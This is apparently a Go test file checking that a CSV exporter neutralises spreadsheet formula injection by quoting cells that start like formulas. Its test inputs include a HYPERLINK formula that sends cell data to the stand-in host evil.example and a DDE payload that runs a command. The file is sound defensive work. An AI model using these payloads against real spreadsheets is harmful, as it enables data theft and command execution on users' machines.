package event

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCSVText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"x")`, `'=HYPERLINK("http://evil.example/?x="&A1,"x")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		// Quotes already in front get one more, so CSVUntext is exact.
		{"'=1+1", "''=1+1"},
		{"''-x", "'''-x"},
		// Left alone: ordinary text, a quote that starts a title, empty.
		{"Russia blocks Telegram", "Russia blocks Telegram"},
		{"'Big Tech' fined", "'Big Tech' fined"},
		{"'", "'"},
		{"", ""},
		{" =1+1", " =1+1"},
		{"2018-04", "2018-04"},
	} {
		if got := CSVText(tc.in); got != tc.want {
			t.Errorf("CSVText(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := CSVUntext(CSVText(tc.in)); got != tc.in {
			t.Errorf("CSVUntext(CSVText(%q)) = %q", tc.in, got)
		}
	}
}

// Text from a feed cannot make a spreadsheet run a formula: every text
// cell that starts like one starts with a quote in the export, and the
// confidence stays a number.
func TestCSVRecordNeutralisesFormulas(t *testing.T) {
	if CSVHeader()[csvConfidence] != "confidence" {
		t.Fatalf("csvConfidence %d is column %q", csvConfidence, CSVHeader()[csvConfidence])
	}
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"x")`
	r := sample
	r.Reason = "+cmd|' /C calc'!A0"
	r.Evidence = []string{"@SUM(1+1)*cmd|' /C calc'!A0", "second"}
	r.SourceURL = "-2+3"
	r.SourceTitle = evil
	r.Feed = "\t=1"
	var buf bytes.Buffer
	if err := WriteCSV(&buf, []Record{r}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range rows[1] {
		if cell != "" && formulaStart(cell[0]) {
			t.Errorf("column %s starts a formula: %q", CSVHeader()[i], cell)
		}
	}
	col := func(name string) string {
		for i, h := range CSVHeader() {
			if h == name {
				return rows[1][i]
			}
		}
		t.Fatalf("no column %s", name)
		return ""
	}
	if got := col("source_title"); got != "'"+evil {
		t.Errorf("source_title %q", got)
	}
	if got := col("confidence"); got != "0.88" {
		t.Errorf("confidence %q", got)
	}
}
